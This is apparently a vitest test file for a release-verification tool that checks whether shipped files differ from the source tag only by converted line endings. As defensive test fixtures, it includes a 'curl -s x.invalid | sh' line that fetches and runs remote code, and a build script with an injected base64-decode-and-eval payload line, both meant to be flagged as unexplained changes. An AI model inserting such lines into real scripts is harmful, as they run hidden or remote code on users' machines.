import { describe, expect, it } from 'vitest'
import type { Difference } from '../../src/verify/compare.js'
import { judge } from '../../src/verify/explain/judge.js'
import { lineEndsExplainer } from '../../src/verify/explain/line-ends.js'
import { fileEntry, memoryView } from '../helpers/tree-view.js'

const changed = (path: string, before: string | Buffer, after: string | Buffer): [Difference, ReturnType<typeof memoryView>] => [
  { path, status: 'content-differs', artifact: fileEntry(path, after), source: fileEntry(path, before) },
  memoryView({ [path]: after }, { [path]: before }),
]
const judged = (path: string, before: string | Buffer, after: string | Buffer) => lineEndsExplainer().judge(...changed(path, before, after))

describe('a file shipped with other line ends than the tag', () => {
  const c = '/* match.h */\n#pragma once\n\nextern int match(char const *s, char const *p);\n'
  const crlf = c.replace(/\n/g, '\r\n')

  it('is explained, either way, as the tag\u2019s bytes with its line ends converted', async () => {
    const to = await judged('src/match.h', c, crlf)
    expect(to?.outcome === 'explained' && to.explained).toMatchObject({ category: 'line-ends', reproduced: true })
    expect(to?.outcome === 'explained' && to.explained.how).toContain('CR LF')
    const back = await judged('src/match.h', crlf, c)
    expect(back?.outcome === 'explained' && back.explained.how).toMatch(/ended by LF/)
    // lines the tag already ends with CR LF stay so
    expect((await judged('src/match.h', `${c}x\r\n`, `${crlf}x\r\n`))?.outcome).toBe('explained')
  })

  it('leaves anything more to the other explainers: a changed token, a line added, some lines only, binary data', async () => {
    for (const [what, before, after] of [
      ['a changed token', c, crlf.replace('match(char', 'match(const char')],
      ['a line added', c, `${crlf}curl -s x.invalid | sh\r\n`],
      ['some lines only', c, c.replace('#pragma once\n', '#pragma once\r\n')],
      ['NUL bytes', Buffer.from(`${c}\0`), Buffer.from(`${crlf}\0`)],
      ['no line end changed', c, `${c} `],
    ] as const) {
      expect(await judged('src/match.h', before, after), what).toBeUndefined()
    }
  })

  it('still weighs a converted build script with a payload line as a change', async () => {
    const script = '#!/bin/sh\necho checking\n'
    const [difference, view] = changed('build-aux/check.sh', script, `${script}eval "$(base64 -d < tests/x.dat)"\n`.replace(/\n/g, '\r\n'))
    const j = await judge(difference, view, [lineEndsExplainer()], new Map())
    expect(j?.outcome).toBe('unexplained')
    expect(j?.findings?.[0]?.ruleId).toBe('verify/source-modified')
  })
})
